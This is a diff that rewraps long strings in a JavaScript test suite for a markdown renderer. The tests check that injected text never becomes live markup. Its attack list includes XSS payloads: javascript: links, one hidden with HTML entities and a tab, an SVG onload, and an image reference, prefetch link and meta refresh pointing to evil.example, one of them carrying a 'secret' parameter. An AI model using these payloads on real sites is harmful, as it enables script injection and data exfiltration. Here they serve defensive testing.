@@ -29,7 +29,8 @@ const ATTACKS = [
   "![x][y]\n\n[y]: https://evil.example/?secret=1",
   "[click][z]\n\n[z]: javascript:alert(1)",
   "<javascript:alert(1)> ![x](data:image/svg+xml,<svg onload=alert(1)>)",
-  "<link rel=prefetch href=https://evil.example> <meta http-equiv=refresh content=0;url=https://evil.example>",
+  "<link rel=prefetch href=https://evil.example> <meta http-equiv=refresh " +
+    "content=0;url=https://evil.example>",
   '[a](&#106;avascript:alert(1)) <a href="java\tscript:alert(1)">b</a>',
 ];
 
@@ -39,7 +40,8 @@ describe("nothing of the text becomes markup", () => {
     const box = shown(`before ${attack} after\n\n${attack}`, opened);
     expect(
       box.querySelectorAll(
-        "img, script, iframe, link, meta, video, audio, style, form, input, math, object, a[href], [src], [onerror], [onload]",
+        "img, script, iframe, link, meta, video, audio, style, form, input, math, object, " +
+          "a[href], [src], [onerror], [onload]",
       ),
     ).toHaveLength(0);
     for (const element of box.querySelectorAll("svg"))
@@ -74,7 +76,8 @@ describe("nothing of the text becomes markup", () => {
 describe("a text that grows", () => {
   it("keeps the blocks that are settled, and comes to the same as read at once", () => {
     const text =
-      "# One\n\nTwo *three*\n\n- a\n- b\n\n```toml\nx = 1\n\ny = 2\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nEnd **bold**.\n\nSetext\n===\n";
+      "# One\n\nTwo *three*\n\n- a\n- b\n\n```toml\nx = 1\n\ny = 2\n```\n\n| a | b " +
+      "|\n|---|---|\n| 1 | 2 |\n\nEnd **bold**.\n\nSetext\n===\n";
     const growing = new Growing();
     let before = growing.read("", true);
     for (let at = 1; at <= text.length; at++) {
